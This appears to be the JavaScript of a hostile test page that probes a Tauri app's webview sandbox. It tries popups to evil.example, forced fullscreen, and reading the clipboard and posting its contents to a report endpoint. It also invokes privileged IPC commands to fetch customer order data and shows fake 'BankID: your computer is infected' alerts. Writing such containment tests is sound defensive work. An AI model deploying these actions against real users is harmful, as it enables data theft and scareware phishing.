// Each attempt is told to the stand-in as "what: how it went".
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const report = async (what, how) => {
  const line = document.createElement("li");
  line.textContent = `${what}: ${how}`;
  document.getElementById("log").append(line);
  await fetch(config.report, { method: "POST", body: `${what}: ${how}` }).catch(() => {});
};
const attempt = async (what, act) => {
  let how;
  try {
    how = String(await Promise.race([act(), pause(3000).then(() => "no answer")]));
  } catch (error) {
    how = `refused (${error.name})`;
  }
  await report(what, how);
};
const open = () => (window.open("https://evil.example/", "_blank") ? "opened" : "refused");
const fullscreen = async () => {
  await document.documentElement.requestFullscreen();
  return "entered";
};
const clipboard = async () => {
  await attempt("clipboard read", async () => `read ${await navigator.clipboard.readText()}`);
  await attempt("clipboard paste", async () => (document.execCommand("paste") ? "read" : "refused"));
  await attempt("clipboard write", async () => {
    await navigator.clipboard.writeText("BankID");
    return "written";
  });
};
document.getElementById("hostile-popup").addEventListener("click", () => attempt("popup after click", async () => open()));
document.getElementById("hostile-fullscreen").addEventListener("click", () => attempt("fullscreen after click", fullscreen));

const acts = {
  bridge: async () => {
    // Of the framework, of ours for everybody, and of ours with a customer's data.
    const commands = { "plugin:app|version": {}, start: {}, order_get: { request: { order: config.order } } };
    for (const [command, request] of Object.entries(commands)) {
      await attempt(`tauri internals ${command}`, async () => {
        const bridge = window.__TAURI_INTERNALS__;
        if (!bridge) return "absent";
        await bridge.invoke(command, request);
        return "answered";
      });
      await attempt(`tauri ipc ${command}`, async () => {
        const answer = await fetch(`ipc://localhost/${encodeURIComponent(command)}`, {
          method: "POST",
          headers: { "Content-Type": "application/json", "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": "" },
          body: JSON.stringify(request),
        });
        return `answered ${answer.status}`;
      });
      await attempt(`message ${command}`, async () => {
        const ipc = window.ipc ?? window.webkit?.messageHandlers?.ipc;
        if (!ipc) return "absent";
        const heard = new Promise((resolve) => (window._1 = resolve));
        ipc.postMessage(JSON.stringify({ cmd: command, callback: 1, error: 2, payload: request, options: {}, __TAURI_INVOKE_KEY__: "" }));
        await heard;
        return "answered";
      });
    }
  },
  popup: () => attempt("popup", async () => open()),
  fullscreen: () => attempt("fullscreen", fullscreen),
  download: () =>
    attempt("download", async () => {
      document.getElementById("hostile-download").click();
      return "tried";
    }),
  clipboard,
  success: async () => {
    await report("success", "tried");
    window.location.href = config.success;
  },
  alerts: async () => {
    for (let round = 1; round <= 3; round += 1) {
      await attempt(`alert ${round}`, async () => {
        alert("BankID: your computer is infected");
        return "returned";
      });
    }
  },
  navigate: async () => {
    for (const host of config.hosts) {
      await report(`navigate ${host}`, "tried");
      try {
        window.location.href = host;
      } catch (error) {
        await report(`navigate ${host}`, `refused (${error.name})`);
      }
      await pause(700);
    }
  },
};
(async () => {
  for (const act of config.acts) await acts[act]();
  await report("still here", window.location.host);
})();
